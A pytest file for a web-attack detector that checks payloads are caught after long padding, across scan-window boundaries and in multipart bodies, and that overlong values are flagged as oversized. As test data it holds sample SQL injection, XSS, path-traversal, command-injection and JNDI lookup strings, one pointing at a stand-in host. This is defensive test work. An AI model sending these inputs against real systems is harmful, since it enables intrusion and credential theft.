"""A payload after a long run of harmless text: every value is judged whole up to
MAX_LEN characters (in overlapping windows), and a value longer than that is
flagged as oversized, never passed over in silence. Padding is built here."""

from __future__ import annotations

import json

import pytest

from shieldwall.runtime.config import WatchConfig
from shieldwall.runtime.decisions import Decision
from shieldwall.runtime.detect import gate
from shieldwall.runtime.detect.decode import MAX_LEN, OVERLAP, WINDOW
from shieldwall.runtime.detect.payload import PayloadDetector
from shieldwall.runtime.engine import Engine
from shieldwall.runtime.events import HttpEvent
from shieldwall.runtime.sources.json_logs import parse_modsecurity_json
from shieldwall.runtime.store import DecisionStore
from tests.runtime.payloads import payload_kinds

_PAYLOADS = {
    "sqli": "1' union select password from users--",
    "xss": "<script>alert(1)</script>",
    "path-traversal": "../../../../etc/passwd",
    "cmdi": ";cat /etc/x;id",
    "jndi": "${jndi:ldap://x.example/a}",
}
_PADDINGS = {"letters": "a", "words": "lorem ipsum dolor sit amet "}


def _pad(kind: str, size: int) -> str:
    piece = _PADDINGS[kind]
    return (piece * (size // len(piece) + 1))[:size]


def _modsec_body(body: str) -> HttpEvent:
    line = json.dumps(
        {
            "transaction": {
                "client_ip": "203.0.113.9",
                "time_stamp": "Thu Dec  3 10:15:02 2026",
                "request": {
                    "method": "POST",
                    "uri": "/post",
                    "headers": {"Content-Type": "application/x-www-form-urlencoded"},
                    "body": body,
                },
                "response": {"http_code": 200},
            }
        }
    )
    event = parse_modsecurity_json(line)
    assert event is not None
    return event


def _kinds_in(part: str, value: str) -> set[str]:
    if part == "query":
        return payload_kinds(query="x=" + value)
    if part == "user_agent":
        return payload_kinds(user_agent=value)
    if part == "path":
        return payload_kinds(path="/p/" + value)
    return {hit.kind for hit in PayloadDetector().scan(_modsec_body("x=" + value))}


@pytest.mark.parametrize("padding", sorted(_PADDINGS))
@pytest.mark.parametrize("part", ["query", "user_agent", "body"])
@pytest.mark.parametrize("kind", sorted(_PAYLOADS))
def test_a_payload_after_20_kb_of_padding_is_found(kind: str, part: str, padding: str) -> None:
    assert kind in _kinds_in(part, _pad(padding, 20000) + _PAYLOADS[kind])


@pytest.mark.parametrize("kind", ["sqli", "xss", "path-traversal", "jndi"])
def test_a_payload_after_20_kb_of_padding_in_the_path_is_found(kind: str) -> None:
    assert kind in _kinds_in("path", _pad("letters", 20000) + _PAYLOADS[kind])


@pytest.mark.parametrize("offset", [0, 1, 7, 100])
def test_a_payload_across_a_window_boundary_is_found(offset: int) -> None:
    # the payload starts just before where the second window's first one ends
    value = _pad("letters", WINDOW - len(_PAYLOADS["sqli"]) // 2 - offset) + _PAYLOADS["sqli"]
    assert "sqli" in _kinds_in("query", value + _pad("letters", 30000))
    assert OVERLAP >= 1024


def test_a_payload_just_inside_the_bound_is_found_and_nothing_is_flagged() -> None:
    payload = _PAYLOADS["xss"]
    kinds = _kinds_in("query", _pad("letters", MAX_LEN - len(payload)) + payload)
    assert kinds == {"xss"}


@pytest.mark.parametrize("part", ["query", "user_agent", "path", "form body"])
def test_a_value_longer_than_the_bound_is_flagged_oversized(part: str) -> None:
    value = _pad("letters", MAX_LEN + 10) + _PAYLOADS["xss"]
    if part == "form body":  # a source whose bodies are not cut (a ModSecurity line is)
        form = (("content-type", "application/x-www-form-urlencoded"),)
        kinds = payload_kinds(method="POST", body="x=" + value, headers=form)
    else:
        kinds = _kinds_in(part, value)
    assert kinds == {"oversized"}  # the payload past the bound is not read, but flagged


def test_an_oversized_value_still_shows_the_payload_before_the_bound() -> None:
    value = _PAYLOADS["sqli"] + _pad("letters", MAX_LEN + 10)
    assert _kinds_in("query", value) == {"sqli", "oversized"}


def test_a_long_harmless_value_within_the_bound_stays_quiet() -> None:
    for part in ("query", "user_agent", "path", "body"):
        assert _kinds_in(part, _pad("words", MAX_LEN - 100)) == set()


def test_without_the_gate_the_windows_find_the_same(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(gate._AUTOMATON, "db", None)  # every expression runs as written
    for kind, payload in _PAYLOADS.items():
        assert kind in _kinds_in("query", _pad("letters", 20000) + payload)


def _oversized_posts(engine: Engine, count: int) -> list[Decision]:
    form = (("content-type", "application/x-www-form-urlencoded"),)
    body = "note=" + _pad("words", MAX_LEN + 100)
    made: list[Decision] = []
    for n in range(count):
        event = HttpEvent(
            1_700_000_000.0 + n, "203.0.113.7", "POST", "/notes", "", 200, "Mozilla/5.0",
            body=body, headers=form,
        )  # fmt: skip
        made += [o for o in engine.http(event, f"t.log:{n}") if isinstance(o, Decision)]
    return made


def test_one_oversized_value_is_counted_but_bans_no_one() -> None:
    engine = Engine(WatchConfig(), DecisionStore())
    assert _oversized_posts(engine, 1) == []
    assert engine.stats.detections["oversized"] == 1


def test_oversized_values_again_and_again_count_as_repeated_payloads() -> None:
    made = _oversized_posts(Engine(WatchConfig(), DecisionStore()), 3)
    assert [d.scenario for d in made] == ["http-payload-repeat"]


def test_a_payload_after_padding_in_a_multipart_field_is_found() -> None:
    boundary = "----form" + "7" * 8
    body = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="note"\r\n\r\n'
        + _pad("words", 20000)
        + _PAYLOADS["xss"]
        + f"\r\n--{boundary}--\r\n"
    )
    form = (("content-type", f"multipart/form-data; boundary={boundary}"),)
    assert "xss" in payload_kinds(method="POST", body=body, headers=form)
